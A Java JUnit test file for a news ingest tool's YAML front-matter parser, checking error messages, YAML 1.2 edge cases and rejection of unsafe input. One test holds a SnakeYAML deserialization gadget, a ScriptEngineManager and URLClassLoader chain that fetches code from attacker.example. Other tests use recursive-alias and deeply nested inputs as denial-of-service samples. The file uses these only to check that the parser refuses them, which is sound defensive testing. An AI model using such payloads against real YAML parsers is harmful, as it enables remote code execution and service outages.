package dev.newsprobe.core.frontmatter;

import java.nio.charset.StandardCharsets;
import java.time.OffsetDateTime;
import java.util.Map;

import dev.newsprobe.core.article.Article;
import dev.newsprobe.core.article.ArticleParser;
import dev.newsprobe.core.article.Finding;
import dev.newsprobe.core.article.FindingCode;
import dev.newsprobe.core.article.ParseResult;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * What real archives hold and the YAML 1.1 reader got wrong: recursive aliases, valid YAML 1.2 it
 * refused, values it read wrongly or dropped, and messages that sent a person to the wrong line
 * or the wrong fix. Read through the article parser, as ingest reads them.
 */
class FrontMatterYamlTests {

	private final ArticleParser parser = new ArticleParser(FrontMatterLimits.DEFAULTS);

	@ParameterizedTest
	@ValueSource(strings = { "loop: &a [1, *a]", "loop: &m {self: *m}", "outer:\n  inner: &x\n    - deeper: [*x]" })
	void aRecursiveAliasUnderAnUnknownKeyIsARejectionWithItsLine(String yaml) {
		// given: the file that once stopped every night with a StackOverflowError
		String text = "---\ntitle: Looks harmless\n" + yaml + "\n---\nBody.\n";

		// when
		Finding finding = rejected(text);

		// then
		assertThat(finding.code()).isEqualTo(FindingCode.RECURSIVE_ALIAS);
		assertThat(finding.line()).isEqualTo(yaml.split("\n").length + 2);
		assertThat(finding.message()).contains("is inside the list or mapping").contains("recursive structures are not read");
	}

	@Test
	void aRecursiveAliasUnderTopicsIsRejectedTheSameWay() {
		Finding finding = rejected("---\ntitle: x\ntopics: &t [a, *t]\n---\n");

		assertThat(finding.code()).isEqualTo(FindingCode.RECURSIVE_ALIAS);
		assertThat(finding.describe()).startsWith("line 3, column 16: the alias *t is inside the list or mapping &t (line 3)");
	}

	@Test
	void anythingThrownWhileParsingIsTheFilesInternalRejectionNotTheCallers() throws Exception {
		// given limits an operator set far too high, and a file nested 5,000 deep, parsed on a thread
		// with a small stack: converting it to plain values overflows the stack, as the YAML 1.1
		// reader did on a recursive alias
		ArticleParser careless = new ArticleParser(new FrontMatterLimits(4L * 1024 * 1024, 20, 1_000_000, 10_000_000));
		String text = "---\ntitle: deep\nextra: " + "[".repeat(5_000) + "]".repeat(5_000) + "\n---\n";
		ParseResult[] result = new ParseResult[1];

		// when
		Thread parsing = new Thread(null, () -> result[0] = careless.parse("deep.md", text.getBytes(StandardCharsets.UTF_8)),
				"small-stack", 256 * 1024);
		parsing.start();
		parsing.join();

		// then
		Finding finding = ((ParseResult.Rejected) result[0]).finding();
		assertThat(finding.code()).isEqualTo(FindingCode.INTERNAL);
		assertThat(finding.message()).contains("java.lang.StackOverflowError").contains("the rest of the run goes on");
	}

	@Test
	void validYamlOnePointTwoThatRealExportersWriteIsAccepted() {
		// given: a tab as separation, trailing tabs, JSON's \/ escape (what PHP's json_encode writes)
		String text = "---\ntitle:\t\"Tabbed\"\t\nwebUrl: \"https:\\/\\/news.example\\/a\\/b\"\ncategory: world\t\t\n---\n";

		// when
		Article article = parsed(text);

		// then
		assertThat(article.title()).isEqualTo("Tabbed");
		assertThat(article.webUrl()).isEqualTo("https://news.example/a/b");
		assertThat(article.category()).isEqualTo("world");
	}

	@Test
	void aCommentGluedToAQuotedValueIsAnErrorAtItsColumn() {
		Finding finding = rejected("---\ntitle: x\nkey: \"value\"# comment\n---\n");

		assertThat(finding.code()).isEqualTo(FindingCode.YAML_SYNTAX);
		assertThat(finding.describe()).isEqualTo("line 3, column 13: '#' right after a closing quote starts no comment:"
				+ " put a space before it (or quote the text, if '#' belongs to it)");
	}

	@Test
	void jekyllsDateFormIsReadAsTheSameInstant() {
		Article article = parsed("---\ntitle: x\npublishedDateTime: 2020-06-11 11:11:00 +0200\n---\n");

		assertThat(article.publishedAt()).isEqualTo(OffsetDateTime.parse("2020-06-11T11:11:00+02:00"));
		assertThat(article.findings()).isEmpty();
	}

	@Test
	void hexadecimalAndOctalNumbersAreNumbersAndYesIsYamlOnePointOnesTrue() {
		Article article = parsed("---\ntitle: x\nquality: 0x25\nheat: 0o17\npublished: yes\n---\n");

		assertThat(article.quality()).isEqualTo(37);
		assertThat(article.heat()).isEqualTo(15);
		assertThat(article.published()).isTrue();
		assertThat(article.findings()).singleElement().satisfies(finding -> {
			assertThat(finding.code()).isEqualTo(FindingCode.LENIENT_VALUE);
			assertThat(finding.message()).isEqualTo("published 'yes' is YAML 1.1's way to write true (text in YAML 1.2); read as true");
		});
	}

	@Test
	void aDuplicateKeyInsideAnUnknownKeysMappingIsADuplicateKey() {
		Finding finding = rejected("---\ntitle: x\nseo:\n  slug: a\n  slug: b\n---\n");

		assertThat(finding.code()).isEqualTo(FindingCode.DUPLICATE_KEY);
		assertThat(finding.describe()).isEqualTo("line 5, column 3: key 'slug' appears twice (lines 4 and 5),"
				+ " so which value is meant is unknown; keep one");
	}

	@Test
	void mergeKeysAreApplied() {
		// given: related entries sharing their provider and type through a merge key
		String text = """
				---
				title: x
				base: &base
				  type: article
				  provider: {name: Wire, domain: wire.example}
				related:
				  - <<: *base
				    title: One
				    webUrl: "https://wire.example/1"
				  - <<: *base
				    type: video
				    title: Two
				---
				""";

		// when
		Article article = parsed(text);

		// then
		assertThat(article.related()).extracting(r -> r.type(), r -> r.provider().domain(), r -> r.title())
			.containsExactly(org.assertj.core.groups.Tuple.tuple("article", "wire.example", "One"),
					org.assertj.core.groups.Tuple.tuple("video", "wire.example", "Two"));
		assertThat(article.extra()).containsEntry("base", Map.of("type", "article", "provider", Map.of("name", "Wire", "domain", "wire.example")));
	}

	@Test
	void indentationWithNonBreakingSpacesIsRefusedInsteadOfLosingTheProvider() {
		Finding finding = rejected("---\ntitle: x\nprovider:\n\u00A0\u00A0name: Wire\n---\n");

		assertThat(finding.code()).isEqualTo(FindingCode.YAML_SYNTAX);
		assertThat(finding.line()).isEqualTo(4);
		assertThat(finding.message()).contains("non-breaking").contains("U+00A0").contains("use ordinary spaces");
	}

	@Test
	void aNextLineCharacterInATitleIsKept() {
		assertThat(parsed("---\ntitle: \"a\u0085b\"\n---\n").title()).isEqualTo("a\u0085b");
	}

	@Test
	void anInvalidValueAfterAMappingIsReportedOnItsOwnLine() {
		// given the suite's 236B: the fault is 'invalid', on line 4 of the file
		Finding finding = rejected("---\nfoo:\n  bar\ninvalid\n---\n");

		assertThat(finding.code()).isEqualTo(FindingCode.YAML_SYNTAX);
		assertThat(finding.describe()).startsWith("line 4, column 1: 'invalid' is not a 'key: value' line");
	}

	@Test
	void aMisindentedKeyIsToldToAlignItNotToQuoteIt() {
		Finding finding = rejected("---\ntitle: Harbour\n  provider: Daily\n---\n");

		assertThat(finding.code()).isEqualTo(FindingCode.YAML_SYNTAX);
		assertThat(finding.line()).isEqualTo(3);
		assertThat(finding.message()).contains("indented more than line 2").contains("indent it like the keys above it")
			.doesNotContain("quotes");
	}

	@Test
	void anUnquotedColonInAValueGetsTheQuotingHint() {
		Finding finding = rejected("---\ntitle: Breaking: markets fall\n---\n");

		assertThat(finding.describe()).isEqualTo("line 2, column 16: the value of 'title' holds ': ' (a colon and a space),"
				+ " which YAML reads as a second key; is there an unquoted ':' in the value? Put the value in quotes");
	}

	@Test
	void aTabInsideAValueIsNotCalledIndentation() {
		// a tab before a list item's dash is not the line's indentation: no indentation hint
		Finding finding = rejected("---\ntitle: x\nlist:\n  -\t- a\n---\n");

		assertThat(finding.message()).doesNotContain("indent");
	}

	@Test
	void classInstantiatingTagsAreRefusedAndNothingIsConstructed() {
		Finding finding = rejected("---\ntitle: x\nx: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example\"]]]]\n---\n");

		assertThat(finding.code()).isEqualTo(FindingCode.UNSUPPORTED_TAG);
		assertThat(finding.line()).isEqualTo(3);
	}

	@Test
	void yamlsOwnTagsAreHonoured() {
		Article article = parsed("---\ntitle: !!str 2024\nquality: !!int \"12\"\nextra: !!set {a, b}\n---\n");

		assertThat(article.title()).isEqualTo("2024");
		assertThat(article.quality()).isEqualTo(12);
		Map<String, Object> set = new java.util.LinkedHashMap<>();
		set.put("a", null);
		set.put("b", null);
		assertThat(article.extra()).containsEntry("extra", set);
	}

	private Article parsed(String text) {
		ParseResult result = this.parser.parse("a.md", text.getBytes(StandardCharsets.UTF_8));
		assertThat(result).as("%s", result).isInstanceOf(ParseResult.Parsed.class);
		return ((ParseResult.Parsed) result).article();
	}

	private Finding rejected(String text) {
		ParseResult result = this.parser.parse("a.md", text.getBytes(StandardCharsets.UTF_8));
		assertThat(result).as("%s", result).isInstanceOf(ParseResult.Rejected.class);
		return ((ParseResult.Rejected) result).finding();
	}

}
